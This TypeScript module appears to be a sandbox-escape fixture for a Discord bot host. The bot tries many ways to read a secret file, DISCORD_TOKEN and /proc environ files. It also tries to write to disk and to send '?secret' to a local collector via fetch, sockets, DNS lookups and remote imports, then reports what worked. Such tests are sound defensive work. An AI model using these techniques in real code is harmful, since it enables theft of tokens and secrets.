/**
 * A bot that tries, when a message or a command tells it where, to reach the token, the disk and the network
 * while it runs, and tells what came of each: `got …`, or the reason why not. It imports nothing of ours, so that all
 * that is asked for is asked for by itself.
 *
 * @module
 */

import { lookup } from "node:dns/promises";
import { readFileSync } from "node:fs";
import process from "node:process";
import { DatabaseSync } from "node:sqlite";
import { Worker as NodeWorker } from "node:worker_threads";

/** Where a bot finds what it must not. */
export interface Targets {
  /** A file with a secret. */
  readonly env: string;
  /** A folder that everybody of this machine may write to. */
  readonly temporary: string;
  /** `http://127.0.0.1:port` of somebody who collects secrets. */
  readonly collector: string;
  /** Whether packages come from there, too. */
  readonly isRegistry: boolean;
}

type Try = (targets: Targets) => unknown;

const importing = (env: string) =>
  `import text from "file://${env}" with { type: "text" }; export default text;`;
const asData = (source: string) => `data:text/javascript,${encodeURIComponent(source)}`;

/** What a thread of our own answers to `source`, which says `send(…)`. */
function inThread(source: string): Promise<unknown> {
  const worker = new Worker(asData(`const send = (value) => postMessage(value);\n${source}`), {
    type: "module",
  });
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data ?? undefined);
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new Error(event.message));
    };
  }).finally(() => worker.terminate());
}

function inNodeThread(source: string): Promise<unknown> {
  const worker = new NodeWorker(source, { eval: true });
  return new Promise((resolve, reject) => {
    worker.on("message", resolve);
    worker.on("error", reject);
  }).finally(() => void worker.terminate());
}

const READS: Readonly<Record<string, Try>> = {
  "a file": ({ env }) => Deno.readTextFileSync(env),
  "a file, as Node": ({ env }) => readFileSync(env, "utf8"),
  "a file, by fetch": async ({ env }) => await (await fetch(`file://${env}`)).text(),
  "an import with a computed name": async ({ env }) =>
    (await import(env + "", { with: { type: "text" } })).default,
  "an import in a module that is made up": async ({ env }) =>
    (await import(asData(importing(env)))).default,
  "an import in a blob": async ({ env }) =>
    (await import(URL.createObjectURL(new Blob([importing(env)], { type: "text/javascript" }))))
      .default,
  "an import in a thread": ({ env }) =>
    inThread(`${importing(env).replace(/export.*/, "")} send(text);`),
  "an import in a thread of Node": ({ env }) =>
    inNodeThread(`import("file://${env}", { with: { type: "text" } })
      .then(({ default: text }) => require("node:worker_threads").parentPort.postMessage(text))`),
  "its folder": ({ env }) => [...Deno.readDirSync(env.replace(/\/[^/]*$/, ""))].length,
  "its environment": () => Deno.env.get("DISCORD_TOKEN") ?? process.env.DISCORD_TOKEN,
  "its environment, as the system has it": () => readFileSync("/proc/self/environ", "utf8"),
  "that of its parent": () => readFileSync(`/proc/${Deno.ppid}/environ`, "utf8"),
  "another program": () => new Deno.Command("env").outputSync().success,
  "the parent's life": () => Deno.kill(Deno.ppid, "SIGCONT"),
};

const WRITES: Readonly<Record<string, Try>> = {
  "a file": ({ temporary }) => Deno.writeTextFileSync(`${temporary}/x`, "x"),
  "a temporary file": () => Deno.makeTempFileSync(),
  "a database": ({ temporary }) => new DatabaseSync(`${temporary}/x.db`),
  "the Cache API": () => (globalThis as { caches?: CacheStorage }).caches?.open("x"),
  "the Cache API of a thread": () =>
    inThread(`
      const kept = (async () => {
        const cache = await caches.open("x");
        await cache.put("http://x/", new Response("x"));
        return "kept";
      })();
      kept.then(send, (error) => send(undefined));`),
  "Deno KV": () => (Deno as { openKv?: () => unknown }).openKv?.(),
  "more than a little in localStorage": () => {
    const store = (globalThis as { localStorage?: Storage }).localStorage;
    try {
      for (let n = 0; store && n < 40; n++) store.setItem(`${n}`, "x".repeat(1024 ** 2));
      return store && "40 MiB";
    } finally {
      store?.clear();
    }
  },
};

const SENDS: Readonly<Record<string, Try>> = {
  "a request": async ({ collector }) => (await fetch(`${collector}/?secret`)).status,
  "a connection": ({ collector }) =>
    Deno.connect({ hostname: "127.0.0.1", port: Number(new URL(collector).port) }),
  "a WebSocket": ({ collector }) => new WebSocket(`${collector.replace("http", "ws")}/?secret`),
  "a name to look up": () => lookup("secret.example.com"),
  "a name to look up, as Deno": () => Deno.resolveDns("secret.example.com", "A"),
  "an import from a host": ({ collector }) => import(`${collector}/secret.ts`),
  "an import from a host of Deno's list": () => import(["https://esm.sh", "?secret"].join("/")),
  "an import from a host, in a thread": ({ collector }) =>
    inThread(`import("${collector}/secret.ts").then(() => send("got"), () => send(undefined))`),
  "an import of a package": ({ isRegistry }) =>
    isRegistry ? import(["npm", "gatehouse-secret@1"].join(":")) : undefined,
  "an import from JSR": () => import(["jsr", "@gatehouse/secret@1"].join(":")),
};

async function attempt(task: Try, targets: Targets): Promise<string> {
  try {
    const got = await task(targets);
    return got === undefined ? "there is none" : `got ${String(got)}`;
  } catch (error) {
    return (error as Error).message;
  }
}

async function tryAll(targets: Targets): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  for (const [verb, tries] of Object.entries({ read: READS, write: WRITES, send: SENDS })) {
    for (const [what, task] of Object.entries(tries)) {
      tried[`${verb}: ${what}`] = await attempt(task, targets);
    }
  }
  return tried;
}

interface Context {
  readonly log: { info(event: string, fields: object): void };
}

export default {
  wants: () => true,
  async handle({ d }: { d: { content: string } }, { log }: Context) {
    log.info("tried", { tried: await tryAll(JSON.parse(d.content)) });
  },
  async handleCommand(
    targets: Targets,
    _receptive: boolean,
    { asResponse }: { asResponse: (value: unknown) => unknown },
  ) {
    return asResponse(await tryAll(targets));
  },
};
